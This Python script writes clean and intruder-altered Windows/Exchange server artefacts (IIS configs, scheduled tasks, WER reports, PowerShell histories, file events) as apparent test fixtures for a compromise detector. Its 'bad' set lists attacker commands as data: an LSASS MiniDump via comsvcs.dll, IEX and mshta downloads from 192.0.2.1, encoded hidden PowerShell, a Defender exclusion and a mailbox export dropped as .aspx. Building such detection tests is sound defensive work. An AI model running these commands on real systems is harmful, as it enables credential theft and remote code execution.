#!/usr/bin/env python3
"""Writes files of Windows as a server has them, ordinary and changed by an intruder: configuration
of IIS, scheduled tasks, error reports, PowerShell, and events of files. Nothing in them works: names
of sinks are cut, addresses are those for documentation.

usage: artefacts.py OUT    makes OUT/clean, and OUT/bad with one file a finding
"""
import json
import os
import sys

MODULES = {
    'loghttp': 'HttpLoggingModule', 'cachuri': 'UriCacheModule', 'cachfile': 'FileCacheModule',
    'cachtokn': 'TokenCacheModule', 'cachhttp': 'HttpCacheModule', 'compdyn': 'DynamicCompressionModule',
    'compstat': 'StaticCompressionModule', 'defdoc': 'DefaultDocumentModule',
    'dirlist': 'DirectoryListingModule', 'protsup': 'ProtocolSupportModule',
    'redirect': 'HttpRedirectionModule', 'static': 'StaticFileModule',
    'authanon': 'AnonymousAuthenticationModule', 'authcert': 'CertificateMappingAuthenticationModule',
    'authbas': 'BasicAuthenticationModule', 'authsspi': 'WindowsAuthenticationModule',
    'authmd5': 'DigestAuthenticationModule', 'modrqflt': 'RequestFilteringModule',
    'custerr': 'CustomErrorModule', 'iisetw': 'TracingModule', 'iisfreb': 'FailedRequestsTracingModule',
    'iisreqs': 'RequestMonitorModule', 'isapi': 'IsapiModule', 'filter': 'IsapiFilterModule',
    'validcfg': 'ConfigurationValidationModule', 'rewrite': 'RewriteModule'}
EX = 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\'
FRAMEWORK = '%windir%\\Microsoft.NET\\Framework64\\v4.0.30319\\'


def element(tag, **attributes):
    return '<%s %s />' % (tag, ' '.join('%s="%s"' % (k, v) for k, v in attributes.items()))


def native():
    image = '%windir%\\System32\\inetsrv\\'
    rows = [element('add', name=n, image=image + d + '.dll') for d, n in MODULES.items()]
    for name, path in (('PasswordExpiryModule', '%SystemRoot%\\system32\\rpcproxy\\rpcproxy.dll'),
                       ('ManagedEngineV4.0_64bit', FRAMEWORK + 'webengine4.dll'),
                       ('kerbauth', EX + 'Bin\\kerbauth.dll'), ('WSMan', 'C:\\Windows\\system32\\wsmsvc.dll'),
                       ('exppw', EX + 'ClientAccess\\Owa\\auth\\exppw.dll'),
                       ('cafe_exppw', EX + 'FrontEnd\\HttpProxy\\bin\\exppw.dll'),
                       ('AspNetCoreModuleV2', '%ProgramFiles%\\IIS\\Asp.Net Core Module\\V2\\aspnetcorev2.dll'),
                       ('exppw2', 'D:\\Exchange\\ClientAccess\\Owa\\auth\\exppw.dll')):
        rows.append(element('add', name=name, image=path))
    return rows


def sites():
    rows = []
    for path, folder in (('/', '%SystemDrive%\\inetpub\\wwwroot'), ('/owa', EX + 'FrontEnd\\HttpProxy\\owa'),
                         ('/ecp', EX + 'FrontEnd\\HttpProxy\\ecp'), ('/Rpc', '%windir%\\System32\\RpcProxy'),
                         ('/shop', 'D:\\sites\\shop'), ('/files', '\\\\nas.example.org\\web')):
        rows.append('<application path="%s" applicationPool="DefaultAppPool">%s</application>'
                    % (path, element('virtualDirectory', path='/', physicalPath=folder)))
    return rows


HANDLERS = (('PageHandlerFactory-Integrated', '*.aspx', 'System.Web.UI.PageHandlerFactory', ''),
            ('SimpleHandlerFactory-Integrated', '*.ashx', 'System.Web.UI.SimpleHandlerFactory', ''),
            ('PageHandlerFactory-ISAPI-4.0_64bit', '*.aspx', '', FRAMEWORK + 'aspnet_isapi.dll'),
            ('ASPClassic', '*.asp', '', '%windir%\\system32\\inetsrv\\asp.dll'),
            ('SecurityCertificate', '*.cer', '', '%windir%\\system32\\inetsrv\\asp.dll'),
            ('HttpForbidden', '*.config', 'System.Web.HttpForbiddenHandler', ''),
            ('ICal', '*.ics', 'Microsoft.Exchange.Clients.Owa.Core.HttpHandlerICal, Microsoft.Exchange.Clients.Owa', ''),
            ('StaticFile', '*', '', ''))


def handlers():
    return [element('add', name=n, path=p, verb='*', type=t, scriptProcessor=s) if t or s
            else element('add', name=n, path=p, verb='*', modules='StaticFileModule') for n, p, t, s in HANDLERS]


def application_host():
    return '\n'.join(
        ['<?xml version="1.0" encoding="UTF-8"?>', '<!-- an example: <location path="x"> -->', '<configuration>',
         '<configSections><sectionGroup name="system.applicationHost"/></configSections>',
         '<system.applicationHost><applicationPools>',
         element('add', name='MSExchangeOWAAppPool', CLRConfigFile=EX + 'bin\\GenericAppPoolConfig.config'),
         '</applicationPools><sites><site name="Default Web Site" id="1">'] + sites() +
        ['</site></sites></system.applicationHost>', '<system.webServer>', '<globalModules>'] + native() +
        ['</globalModules>', '<httpLogging dontLog="false" />', '<isapiFilters>',
         element('filter', name='ASP.Net_4.0_64bit', path=FRAMEWORK + 'aspnet_filter.dll'),
         element('filter', name='Exchange OWA Cookie Authentication', path=EX + 'FrontEnd\\HttpProxy\\bin\\owaauth.dll'),
         element('filter', name='Exchange ActiveSync', path='D:\\Exchange\\FrontEnd\\HttpProxy\\bin\\AirFilter.dll'),
         '<clear />', '</isapiFilters>',
         '<security><isapiCgiRestriction notListedIsapisAllowed="false"><clear />',
         element('add', path=EX + 'ClientAccess\\owa\\auth\\owaauth.dll', allowed='true'), '</isapiCgiRestriction>',
         '<requestFiltering><fileExtensions allowUnlisted="true">',
         element('add', fileExtension='.config', allowed='false'), '</fileExtensions><hiddenSegments>',
         element('add', segment='web.config'), '</hiddenSegments></requestFiltering></security>', '</system.webServer>',
         '<location path="" overrideMode="Allow"><system.webServer><modules>',
         element('add', name='OutputCache', type='System.Web.Caching.OutputCacheModule', preCondition='managedHandler'),
         element('add', name='HttpLoggingModule', lockItem='true'), '</modules><handlers>'] + handlers() +
        ['</handlers></system.webServer></location>', '</configuration>', ''])


def configuration(inner, behind=''):
    return '<?xml version="1.0"?>\n<configuration>\n%s\n</configuration>\n%s' % (inner, behind)


def clean_web():
    module = 'Microsoft.Exchange.HttpProxy.FbaModule,Microsoft.Exchange.FrontEndHttpProxy'
    return configuration(
        '<location inheritInChildApplications="false"><system.webServer><modules>'
        '<remove name="RequestFilteringModule" />' + element('add', name='HttpProxy', type=module) +
        '</modules></system.webServer><system.web><machineKey validationKey="AutoGenerate,IsolateApps" />'
        '<compilation debug="false"><assemblies>' + element('add', assembly='Microsoft.Exchange.Security') +
        '</assemblies></compilation><customErrors mode="RemoteOnly" /><pages validateRequest="false" />'
        '</system.web></location><assemblyBinding xmlns="urn:schemas-microsoft-com:asm.v1">' +
        element('linkedConfiguration', href='file://' + EX + 'FrontEnd\\HttpProxy\\SharedWebConfig.config') +
        '</assemblyBinding>')


def task(command, arguments='', uri='', hidden='false'):
    return ('<?xml version="1.0" encoding="UTF-16"?>\r\n<Task version="1.2" '
            'xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">\r\n<RegistrationInfo>'
            '<Date>2005-10-11T13:21:17-08:00</Date><Author>$(@%%SystemRoot%%\\x.dll,-1)</Author><URI>%s</URI>'
            '</RegistrationInfo>\r\n<Triggers><LogonTrigger /></Triggers><Settings><Hidden>%s</Hidden></Settings>'
            '<Principals><Principal id="A"><UserId>S-1-5-18</UserId></Principal></Principals>\r\n'
            '<Actions Context="A"><Exec><Command>%s</Command><Arguments>%s</Arguments></Exec></Actions></Task>'
            % (uri, hidden, command, arguments))


CLEAN_TASKS = (
    ('\\Microsoft\\Windows\\Windows Defender\\Scan', 'C:\\ProgramData\\Microsoft\\Windows Defender\\platform\\4.18.1\\MpCmdRun.exe', 'Scan -ScheduleJob', 'true'),
    ('\\OneDrive Update', '%localappdata%\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe', '', 'false'),
    ('\\Microsoft\\Windows\\Application Experience\\PcaPatchDbTask', '%windir%\\system32\\rundll32.exe', 'PcaSvc.dll,PcaPatchSdbTask', 'true'),
    ('\\MicrosoftEdgeUpdateTaskMachineUA', 'C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe', '/ua /installsource scheduler', 'false'),
    ('\\Microsoft\\Windows\\DiskCleanup\\SilentCleanup', '%windir%\\system32\\cleanmgr.exe', '/autoclean /d %systemdrive%', 'false'),
    ('\\Backup', 'powershell.exe', '-NoProfile -ExecutionPolicy RemoteSigned -File C:\\Scripts\\Backup.ps1', 'false'),
    ('\\Microsoft\\Windows\\PushToInstall\\Registration', '%windir%\\system32\\sc.exe', 'start pushtoinstall registration', 'true'))
BAD_TASKS = (
    ('\\Sync', 'powershell.exe', '-NoP -W Hidden -Enc AAAAAAAAAAAAAAAAAAAAAAAAAAAA', 'true'),
    ('\\Fetch', 'mshta.exe', 'http://192.0.2.1/x.hta', 'false'),
    ('\\Upd', 'C:\\Users\\Public\\svc.exe', '', 'false'),
    ('\\Vendor', 'C:\\ProgramData\\Tool\\tool.exe', '', 'false'),
    ('\\VSPerfMon', 'C:\\Windows\\System32\\cmd.exe', '/c echo', 'false'))


def report(process, more=''):
    lines = ['Version=1', 'EventType=E12IIS', 'EventTime=132592032000000000', 'ReportType=2', 'Consent=1',
             'Sig[0].Name=AppName', 'Sig[0].Value=' + process, 'UI[2]=C:\\Windows\\System32\\inetsrv\\w3wp.exe',
             'AppName=IIS Worker Process', 'AppPath=C:\\Windows\\System32\\inetsrv\\w3wp.exe'] + more.split()
    return '\r\n'.join(lines) + '\r\n'


STARS = '*' * 22 + '\n'


def transcript(application, commands):
    return (STARS + 'Windows PowerShell transcript start\nStart time: 20210303000001\nUsername: EXAMPLE\\anna\n'
            'RunAs User: EXAMPLE\\anna\nMachine: EX01 (Microsoft Windows NT 10.0.17763.0)\nHost Application: ' +
            application + '\nProcess ID: 4711\n' + STARS + 'Transcript started, output file is C:\\t.txt\n' +
            ''.join('PS C:\\> %s\nout\n' % c for c in commands) + STARS + 'Windows PowerShell transcript end\n' + STARS)


CLEAN_COMMANDS = ('Get-MailboxDatabase | Format-List Name', 'cd C:\\', 'ipconfig /all', '$x = Get-Date',
                  'New-MailboxExportRequest -Mailbox anna -FilePath \\\\fs.example.org\\pst\\anna.pst',
                  'Invoke-WebRequest https://example.org/file.zip -OutFile file.zip')
BAD_COMMANDS = ('rundll32 C:\\Windows\\System32\\comsvcs.dll, MiniDump 600 C:\\x.dmp full',
                'IEX (New-Object Net.WebClient).DownloadString("http://192.0.2.1/a")',
                'New-MailboxExportRequest -Mailbox anna -FilePath \\\\127.0.0.1\\c$\\inetpub\\x.aspx',
                'Add-MpPreference -ExclusionPath C:\\x')

WEB = 'C:\\inetpub\\wwwroot\\'
# what the file is, and what is to be found of it (None: nothing)
FILES = (
    (dict(TargetFilename=WEB + 'iisstart.htm', Type='html', Shell='none', Baseline='not-covered'), None),
    (dict(TargetFilename=EX + 'FrontEnd\\HttpProxy\\owa\\auth\\logon.aspx', Type='text', Shell='none', Baseline='shipped', Known='yes'), None),
    (dict(TargetFilename=EX + 'FrontEnd\\HttpProxy\\owa\\auth\\logoff.aspx', Type='text', Shell='none', Baseline='unknown-build'), None),
    (dict(TargetFilename='C:\\ProgramData\\Microsoft\\Windows\\WER\\Temp\\a.dmp', Type='mdmp', Size='30000000'), None),
    (dict(TargetFilename='C:\\Windows\\Temp\\small.dmp', Type='mdmp', Size='300000'), None),
    (dict(TargetFilename='C:\\ProgramData\\Package Cache\\x\\y.zip', Type='zip', Size='300'), None),
    (dict(TargetFilename='C:\\ProgramData\\Vendor\\Updates\\Cache\\Deep\\y.zip', Type='zip', Size='300'), None),
    (dict(TargetFilename='C:\\Windows\\System32\\kernel32.dll', Type='mz', Size='30000000'), None),
    (dict(TargetFilename=WEB + 'a.aspx', Type='text', Shell='certain'), 'Web shell in a web folder'),
    (dict(TargetFilename=WEB + 'b.aspx', Type='text', Shell='likely'), 'Script that looks like a web shell'),
    (dict(TargetFilename='D:\\x\\b.aspx', Type='text', Shell='certain'), 'Script that looks like a web shell'),
    (dict(TargetFilename=WEB + 'c.aspx', Type='text', Shell='none', ShellReason='dump-of-virtual-directory'), 'Output of a virtual directory without a script'),
    (dict(TargetFilename=WEB + 'd.aspx', Type='text', Shell='certain', ShellReason='dump-with-script'), 'Virtual directory written as a web shell'),
    (dict(TargetFilename=WEB + 'aspnet_client\\e.aspx', Type='text', Shell='none'), 'Script in the folder aspnet_client'),
    (dict(TargetFilename=EX + 'FrontEnd\\HttpProxy\\owa\\auth\\f.aspx', Type='text', Shell='none', Baseline='unlisted-name'), 'Script of a name that never shipped'),
    (dict(TargetFilename=EX + 'FrontEnd\\HttpProxy\\owa\\auth\\logon.aspx', Type='text', Shell='weak', Baseline='altered'), 'Shipped script that was changed, with code of a web shell'),
    (dict(TargetFilename=EX + 'FrontEnd\\HttpProxy\\owa\\auth\\signout.aspx', Type='text', Shell='none', Baseline='altered'), 'Shipped script that was changed'),
    (dict(TargetFilename=WEB + 'g.aspx', Type='pst'), 'Script that is no text'),
    (dict(TargetFilename='D:\\x\\g.aspx', Type='der'), 'Script that is no text, outside web folders'),
    (dict(TargetFilename='C:\\root\\lsass_600.dmp', Type='mdmp', Size='3000'), 'Dump of LSASS'),
    (dict(TargetFilename='C:\\ProgramData\\a.bin', Type='mdmp', Size='30000000'), 'Large memory dump where intruders put theirs'),
    (dict(TargetFilename='C:\\root\\x.dat', Type='mdmp', Size='30000000'), 'Large memory dump where intruders put theirs'),
    (dict(TargetFilename='C:\\Users\\Public\\a.7z', Type='7z', Size='3'), 'Archive in a folder where data is gathered'),
    (dict(TargetFilename='C:\\ProgramData\\a.zip', Type='zip', Size='3'), 'Archive in ProgramData or a folder for temporary files'),
    (dict(TargetFilename='C:\\W\\Temporary ASP.NET Files\\owa\\App_Web_x.dll', Type='mz', JScript='yes'), 'Compiled page with an evaluator of JScript'),
    (dict(TargetFilename='C:\\W\\Temporary ASP.NET Files\\owa\\1\\zz.aspx.cdcab7d2.compiled', Type='text', Baseline='unlisted-name'), 'Page compiled in a folder of Exchange that has none of the name'))


def file_event(n, fields):
    name = fields['TargetFilename'].rpartition('\\')[2]
    data = dict(fields, Name=name, Extension='.' + name.rpartition('.')[2].lower())
    return json.dumps({'Event': {'System': {'EventID': 0, 'EventRecordID': n, 'Channel': 'tocsin/file',
                                            'Computer': 'EX01'}, 'EventData': data}}) + '\n'


def rewrite(name, enabled='true', stop='true'):
    return ('<rule name="%s" enabled="%s" stopProcessing="%s"><match url=".*" /><conditions><add '
            'input="{HTTP_COOKIE}" pattern="(.*)X-AnonResource-Backend(.*)" /></conditions><action type="AbortRequest" />'
            '</rule>' % (name, enabled, stop))


def server(inner):
    return configuration('<system.webServer>%s</system.webServer>' % inner)


def directory(path):
    return configuration('<system.applicationHost><sites><site name="S"><application path="/">%s</application></site>'
                         '</sites></system.applicationHost>' % element('virtualDirectory', path='/x', physicalPath=path))


def modules(image):
    return server('<globalModules>%s</globalModules>' % element('add', name='M', image=image))


# what is to be found, and the configuration
CONFIGS = (
    ('Web folder with a name that Windows keeps for devices', directory('C:\\ProgramData\\COM1\\a')),
    ('Web folder where no website lies', directory('C:\\Users\\All Users\\a')),
    ('IIS runs a program from a folder where programs do not lie', modules('C:\\ProgramData\\a.dll')),
    ('Native module of IIS in an unusual folder', modules('C:\\Windows\\System32\\a.dll')),
    ('Native module beside those of IIS with a name that is none of theirs', modules('%windir%\\System32\\inetsrv\\httpx.dll')),
    ('Native module of a vendor', modules('C:\\Program Files\\Example\\a.dll')),
    ('Filter of IIS in an unusual folder', server('<isapiFilters>%s</isapiFilters>' % element('filter', name='F', path='C:\\x\\a.dll'))),
    ('Managed module of a vendor', server('<modules>%s</modules>' % element('add', name='M', type='Example.Module, Example'))),
    ('Pictures or texts run as scripts', server('<handlers>%s</handlers>' % element('add', name='H', path='*.jpg', verb='*', type='System.Web.UI.PageHandlerFactory'))),
    ('Pictures or texts compiled as pages', configuration('<system.web><compilation><buildProviders>%s</buildProviders></compilation></system.web>' % element('add', extension='.png', type='System.Web.Compilation.PageBuildProvider'))),
    ('Web shell inside a configuration', configuration('<system.web />', '<!-- <% inert(Request(0)) %> -->')),
    ('Code of a page inside a configuration', configuration('<system.web />', '<!-- <% inert %> -->')),
    ('Configurations served to clients', server('<security><requestFiltering><hiddenSegments><remove segment="web.config" /></hiddenSegments></requestFiltering></security>')),
    ('Code of a web application loaded from elsewhere', configuration('<runtime><assemblyBinding><dependentAssembly>%s</dependentAssembly></assemblyBinding></runtime><system.web />' % element('codeBase', href='http://192.0.2.1/a.dll'))),
    ('Web server told to keep no log', server('<httpLogging dontLog="true" />')),
    ('Machine key set by hand', configuration('<system.web><machineKey validationKey="00" decryptionKey="11" /></system.web>')),
    ('Mitigation in force', server('<rewrite><rules>%s</rules></rewrite>' % rewrite('X-AnonResource-Backend Abort - inbound'))),
    ('Mitigation that does nothing', server('<rewrite><rules>%s</rules></rewrite>' % rewrite('X-BEResource Abort - inbound', 'false'))),
    ('Mitigation taken back for a folder', server('<rewrite><rules><clear /></rules></rewrite>')))


def write(path, text, encoding='utf-8'):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, 'w', encoding=encoding, newline='') as f:
        f.write(text)


def main():
    clean, bad = os.path.join(sys.argv[1], 'clean', 'C'), os.path.join(sys.argv[1], 'bad', 'C')
    config = 'Windows/System32/inetsrv/config/applicationHost.config'
    write(os.path.join(clean, config), application_host())
    write(os.path.join(clean, 'inetpub/wwwroot/web.config'), clean_web())
    with open(os.path.join(sys.argv[1], 'titles'), 'w', encoding='utf-8') as titles:
        for i, (title, text) in enumerate(CONFIGS):
            write(os.path.join(bad, 'inetpub/%d/web.config' % i), text)
            titles.write('%s\t%d/web.config\n' % (title, i))
        for i, (fields, title) in enumerate(FILES):
            write(os.path.join(bad if title else clean, 'files/%d.json' % i), file_event(i, fields))
            if title:
                titles.write('%s\t%d.json\n' % (title, i))
    for where, tasks in ((clean, CLEAN_TASKS), (bad, BAD_TASKS)):
        for uri, command, arguments, hidden in tasks:
            write(os.path.join(where, 'Windows/System32/Tasks' + uri.replace('\\', '/')),
                  task(command, arguments, uri, hidden), 'utf-16')
    wer = 'ProgramData/Microsoft/Windows/WER/ReportArchive/%s/Report.wer'
    write(os.path.join(clean, wer % 'AppCrash_notepad'), report('notepad.exe'), 'utf-16')
    for pool in ('w3wp#MSExchangeECPAppPool', 'w3wp#MSExchangeOWAAppPool', 'UMWorkerProcess Sig[1].Value=System.InvalidCastException'):
        name, _, more = pool.partition(' ')
        write(os.path.join(bad, wer % name), report(name, more), 'utf-16')
    history = 'Users/anna/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt'
    for where, commands, start in ((clean, CLEAN_COMMANDS, 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'),
                                   (bad, BAD_COMMANDS, 'powershell.exe -nop -enc AAAAAAAAAAAAAAAAAAAAAAAA')):
        write(os.path.join(where, history), '\n'.join(commands) + '\n')
        write(os.path.join(where, 'Users/anna/Documents/PowerShell_transcript.EX01.txt'), transcript(start, commands))


if __name__ == '__main__':
    main()
